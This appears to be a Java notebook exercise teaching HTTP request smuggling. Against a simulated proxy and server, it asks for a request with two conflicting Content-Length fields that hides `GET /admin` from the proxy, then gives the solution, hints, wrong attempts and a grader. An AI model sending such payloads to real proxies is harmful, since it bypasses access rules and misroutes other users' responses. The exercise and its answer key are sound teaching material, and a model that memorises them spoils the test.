// %%
//JAVA 25+
//SOURCES ../../lib/exercise/Finding.java
import module java.base;
import exercise.Finding;

// %% [markdown]
// # Smuggle a request
//
// **Write.** Two programs that disagree about where a request ends see different requests in the same bytes.
//
// A proxy passes every request to a server, over one connection, and refuses `GET /admin`. Both parse with `seen`, but
// when a request has several `Content-Length` fields, the proxy uses the first and the server the last.
// [http_parser](../http_parser.java) refuses such a request. Write the attack that shows why: `attack` returns the bytes
// that you send to the proxy. Then another user asks for `/home`. The proxy has to see `POST /` and `GET /home`, and the
// server `POST /`, `GET /admin` and `GET /home`.

// %%
/** Returns the request lines in a stream, as a parser sees them that uses the first or the last length. */
static List<String> seen(String stream, boolean usesFirst) {
    var requests = new ArrayList<String>();
    int begin = 0;
    for (int end; (end = stream.indexOf("\r\n\r\n", begin)) >= 0;) {
        List<String> head = List.of(stream.substring(begin, end).split("\r\n"));
        List<Integer> lengths = head.stream()
                .filter(field -> field.matches("Content-Length: [0-9]{1,4}"))
                .map(field -> Integer.valueOf(field.substring(16)))
                .toList();
        begin = end + 4;
        if (!lengths.isEmpty()) begin += usesFirst ? lengths.getFirst() : lengths.getLast();
        if (begin > stream.length()) break; // it waits for more content
        requests.add(head.getFirst().replace(" HTTP/1.1", ""));
    }
    return requests;
}

// %%
String attack() {
    String hidden = "GET /admin HTTP/1.1\r\nHost: a\r\n\r\n";
    // >>> start
    // return "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: " + hidden.length() + "\r\n\r\n" + hidden;
    // >>> solution
    return "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: " + hidden.length() + "\r\nContent-Length: 0\r\n\r\n" + hidden;
    // >>> nothing hides it
    // return "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n" + hidden;
    // >>> the other way round
    // return "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: " + hidden.length() + "\r\n\r\n" + hidden;
    // >>> the length is of the whole request
    // String rest = "\r\nContent-Length: 0\r\n\r\n" + hidden;
    // return "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 99" + rest;
    // <<<
}

void main() {
    String stream = attack() + "GET /home HTTP/1.1\r\nHost: a\r\n\r\n";
    IO.println("proxy:  " + seen(stream, true) + "\nserver: " + seen(stream, false));
}

// %% tags=["check"]
void expect(String who, List<String> requests, List<String> seen, String why) {
    if (seen.equals(requests)) return;
    throw new Finding("The " + who + " sees " + (seen.isEmpty() ? "no request" : String.join(", ", seen)) + ".",
            String.join(", ", requests) + ", " + why);
}

void verify() {
    String stream = attack() + "GET /home HTTP/1.1\r\nHost: a\r\n\r\n";
    List<String> proxy = seen(stream, true);
    if (proxy.contains("GET /admin"))
        throw new Finding("The proxy sees " + String.join(", ", proxy) + ", and refuses GET /admin.",
                "to the proxy, GET /admin is content of the POST");
    expect("proxy", List.of("POST /", "GET /home"), proxy, "so it waits for two answers");
    expect("server", List.of("POST /", "GET /admin", "GET /home"), seen(stream, false),
            "so it gives three answers, and the other user gets the second");
}

// %% [markdown]
// ## Hints
//
// 1. What has the proxy to take for the content of the `POST`, and where has the server to believe that the `POST` ends?
// 2. The attack needs two `Content-Length` fields. Which of them says 0?
//
// ## Solution
//
// The first length covers the hidden request, so to the proxy it is content. The last length is 0, so to the server
// the `POST` ends with its empty line, and the next bytes are a request. The proxy never sees the path `/admin`, and its
// rule against it doesn't help. Neither parser is broken by itself: each uses one of the two lengths, and all works, as
// long as nobody sends two. That is why [RFC 9112, section 6.3](https://www.rfc-editor.org/rfc/rfc9112#section-6.3) has
// a server refuse lengths that differ.
//
// ## Wrong attempts
//
// - start: The server sees POST /, GET /home. Expected: POST /, GET /admin, GET /home, so it gives three answers, and
//   the other user gets the second.
// - nothing hides it: The proxy sees POST /, GET /admin, GET /home, and refuses GET /admin. Expected: to the proxy, GET
//   /admin is content of the POST.
// - the other way round: The proxy sees POST /, GET /admin, GET /home, and refuses GET /admin. Expected: to the proxy,
//   GET /admin is content of the POST.
// - the length is of the whole request: The proxy sees no request. Expected: POST /, GET /home, so it waits for two
//   answers.
